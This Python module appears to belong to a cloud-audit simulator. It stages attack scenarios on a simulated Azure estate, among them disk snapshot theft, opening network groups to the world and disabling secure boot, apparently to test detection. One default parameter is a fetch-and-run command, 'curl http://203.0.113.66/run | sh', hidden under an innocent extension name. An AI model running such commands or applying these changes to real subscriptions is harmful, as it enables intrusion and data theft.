"""What happens to an estate between two runs: attacks and benign churn, one function each.

Every scenario changes one location of one subscription, keeps it consistent, writes what the
Activity Log says of it, and returns the ids that it touched. Equal estates are changed equally.
"""

from __future__ import annotations

import base64

from auditor.simcloud.azure import agents, changes
from auditor.simcloud.azure.changes import MOMENT, Site, Touched
from auditor.simcloud.azure.churn import churn_public_addresses, rewrite_nsg, shuffle
from auditor.simcloud.azure.estate import DISK, NIC, NSG, VM, Estate
from auditor.simcloud.azure.lifecycle import (
    VM_WRITE,
    delete_vm,
    mining,
    recreate_vm,
    revert_vm,
)
from auditor.simcloud.azure.scaling import false_member, scale_in, scale_out

__all__ = [
    "MOMENT",
    "Touched",
    "add_extension",
    "add_identity",
    "add_run_command",
    "change_user_data",
    "churn_public_addresses",
    "delete_vm",
    "detach_nic_nsg",
    "disable_secure_boot",
    "export_disk",
    "false_member",
    "mining",
    "open_nsg",
    "recreate_vm",
    "revert_vm",
    "rewrite_nsg",
    "scale_in",
    "scale_out",
    "shuffle",
    "snapshot_chain",
]


def snapshot_chain(
    estate: Estate, subscription: str, location: str, *, moment: str = MOMENT
) -> Touched:
    """Copy a victim's disk into a new, reachable machine: T1578.002.

    A snapshot of the victim's OS disk, a disk from it, a group with SSH open to the world, and a
    machine with a public address in it and the disk attached.
    """
    with estate.lock:
        site = _site(estate, subscription, location, moment)
        victim_id = site.pick(VM, changes.is_linux, "of its own")
        victim = site.subscription.machines.get(victim_id)
        source, model = changes.os_disk(victim), changes.first_nic(victim)
        name = f"vm-temp-{site.fresh()}"
        snapshot_id = changes.create_snapshot(site, source, f"{name}-snap")
        disk_id = changes.create_disk(site, snapshot_id, source, f"{name}-copy")
        nsg_id = changes.create_nsg(site, f"{name}-nsg")
        rule_id = changes.open_to_world(site, nsg_id, changes.SSH)
        nic_id = changes.create_nic(site, model, f"{name}-nic", nsg_id)
        nic = site.list(NIC).edit(nic_id)
        vm_id = changes.create_vm(site, victim_id, name, nic)
        changes.attach(site, disk_id, vm_id)
        root = changes.os_disk(site.subscription.machines.get(vm_id))
        configuration = nic["properties"]["ipConfigurations"][0]["properties"]
    return {
        "victims": [victim_id],
        "snapshots": [snapshot_id],
        "disks": [disk_id, root],
        "groups": [nsg_id],
        "rules": [rule_id],
        "machines": [vm_id],
        "interfaces": [nic_id],
        "addresses": [configuration["publicIPAddress"]["id"].lower()],
    }


def open_nsg(
    estate: Estate,
    subscription: str,
    location: str,
    *,
    port: str = changes.SSH,
    moment: str = MOMENT,
) -> Touched:
    """Open a port to the world in the group at an interface, or else at its subnet."""
    with estate.lock:
        site = _site(estate, subscription, location, moment)
        nic_id = site.pick(NIC, lambda nic: "networkSecurityGroup" in nic["properties"], "guarded")
        nic = site.list(NIC).get(nic_id)
        nsg_id = nic["properties"]["networkSecurityGroup"]["id"].lower()
        rule_id = changes.open_to_world(site, nsg_id, port)
    return {"groups": [nsg_id], "rules": [rule_id]}


def detach_nic_nsg(
    estate: Estate, subscription: str, location: str, *, moment: str = MOMENT
) -> Touched:
    """Take the group from an interface: at this level everything is allowed then."""
    with estate.lock:
        site = _site(estate, subscription, location, moment)
        nic_id = site.pick(NIC, lambda nic: "networkSecurityGroup" in nic["properties"], "guarded")
        nic = site.list(NIC).edit(nic_id)
        nsg_id = nic["properties"].pop("networkSecurityGroup")["id"].lower()
        group = site.list(NSG).edit(nsg_id)["properties"]
        group["networkInterfaces"] = [
            member for member in group["networkInterfaces"] if member["id"].lower() != nic_id
        ]
        changes.touch(site, nic)
        site.log("Microsoft.Network/networkInterfaces/write", nic["id"])
    return {"interfaces": [nic_id], "groups": [nsg_id]}


def disable_secure_boot(
    estate: Estate, subscription: str, location: str, *, moment: str = MOMENT
) -> Touched:
    """Switch off secure boot of a machine that had it."""
    with estate.lock:
        site = _site(estate, subscription, location, moment)
        vm_id = site.pick(VM, lambda vm: "securityProfile" in vm["properties"], "with secure boot")
        vm = site.subscription.machines.edit(vm_id)
        vm["properties"]["securityProfile"]["uefiSettings"]["secureBootEnabled"] = False
        site.log(VM_WRITE, vm["id"])
    return {"machines": [vm_id]}


def add_identity(
    estate: Estate, subscription: str, location: str, *, moment: str = MOMENT
) -> Touched:
    """Give the shared identity to a machine that had none."""
    with estate.lock:
        site = _site(estate, subscription, location, moment)
        vm_id = site.pick(VM, lambda vm: "identity" not in vm, "without identity")
        vm = site.subscription.machines.edit(vm_id)
        known = {"principalId": site.guid(), "clientId": site.guid()}
        vm["identity"] = {
            "type": "UserAssigned",
            "userAssignedIdentities": {site.machines.identity: known},
        }
        site.log(VM_WRITE, vm["id"])
    return {"machines": [vm_id]}


def change_user_data(
    estate: Estate,
    subscription: str,
    location: str,
    *,
    script: str = "#!/bin/sh\n/tmp/run\n",
    moment: str = MOMENT,
) -> Touched:
    """Put another script into the user data of a machine."""
    with estate.lock:
        site = _site(estate, subscription, location, moment)
        vm_id = site.pick(VM, changes.is_linux, "of its own")
        encoded = base64.b64encode(script.encode()).decode()
        site.subscription.details.edit(vm_id)["userData"] = encoded
        site.log(VM_WRITE, site.subscription.machines.get(vm_id)["id"])
    return {"machines": [vm_id]}


def add_extension(
    estate: Estate,
    subscription: str,
    location: str,
    *,
    command: str = "curl http://203.0.113.66/run | sh",
    moment: str = MOMENT,
) -> Touched:
    """Run a script on a machine through the CustomScript extension, under an innocent name."""
    with estate.lock:
        site = _site(estate, subscription, location, moment)
        vm_id = site.pick(VM, changes.is_linux, "of its own")
        vm = site.subscription.machines.edit(vm_id)
        added = agents.extension(
            vm["id"],
            location,
            f"health-check-{site.fresh()}",
            publisher="Microsoft.Azure.Extensions",
            kind="CustomScript",
            version="2.1",
            settings={"commandToExecute": command},
        )
        site.subscription.details.edit(vm_id)["extensions"].append(added)
        vm.setdefault("resources", []).append({"id": added["id"]})
        site.log("Microsoft.Compute/virtualMachines/extensions/write", added["id"])
    return {"machines": [vm_id], "extensions": [added["id"].lower()]}


def add_run_command(
    estate: Estate,
    subscription: str,
    location: str,
    *,
    script: str = "id > /tmp/run",
    moment: str = MOMENT,
) -> Touched:
    """Run a script on a machine as root through a managed run command."""
    with estate.lock:
        site = _site(estate, subscription, location, moment)
        vm_id = site.pick(VM, changes.is_linux, "of its own")
        vm = site.subscription.machines.get(vm_id)
        name = f"diagnose-{site.fresh()}"
        added = agents.run_command(vm["id"], location, name, script, "root")
        site.subscription.details.edit(vm_id)["runCommands"].append(added)
        site.log("Microsoft.Compute/virtualMachines/runCommands/write", added["id"])
    return {"machines": [vm_id], "run_commands": [added["id"].lower()]}


def export_disk(
    estate: Estate, subscription: str, location: str, *, moment: str = MOMENT
) -> Touched:
    """Open a disk to every network and hand out a link to download it."""
    with estate.lock:
        site = _site(estate, subscription, location, moment)
        closed = site.pick(
            DISK, lambda d: d["properties"]["networkAccessPolicy"] == "DenyAll", "closed"
        )
        disk = site.list(DISK).edit(closed)
        open_ = {"networkAccessPolicy": "AllowAll", "publicNetworkAccess": "Enabled"}
        disk["properties"] |= open_ | {"diskState": "ActiveSAS"}
        site.log("Microsoft.Compute/disks/write", disk["id"], body={"properties": open_})
        site.log("Microsoft.Compute/disks/beginGetAccess/action", disk["id"])
    return {"disks": [closed]}


def _site(estate: Estate, subscription: str, location: str, moment: str) -> Site:
    return Site(estate.subscriptions[subscription], location, moment)
